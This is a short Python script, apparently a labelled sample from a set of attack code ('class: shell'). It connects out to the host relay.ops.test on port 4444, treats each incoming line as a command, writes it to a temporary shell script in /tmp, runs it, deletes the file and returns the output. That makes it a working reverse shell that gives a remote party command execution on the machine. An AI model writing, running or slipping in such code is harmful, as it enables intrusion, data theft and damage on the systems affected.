# class: shell; possible: low medium; style: each order becomes a script file that is run and removed
import os
import socket
import subprocess
import tempfile

f = socket.create_connection(("relay.ops.test", 4444)).makefile("rw")
for order in f:
    if order.strip() == "exit":
        break
    with tempfile.NamedTemporaryFile("w", suffix=".sh", dir="/tmp", delete=False) as script:
        script.write("#!/bin/sh\n" + order)
    out = subprocess.run(["/bin/sh", script.name], capture_output=True, text=True)
    os.unlink(script.name)
    f.write(out.stdout + out.stderr)
    f.flush()
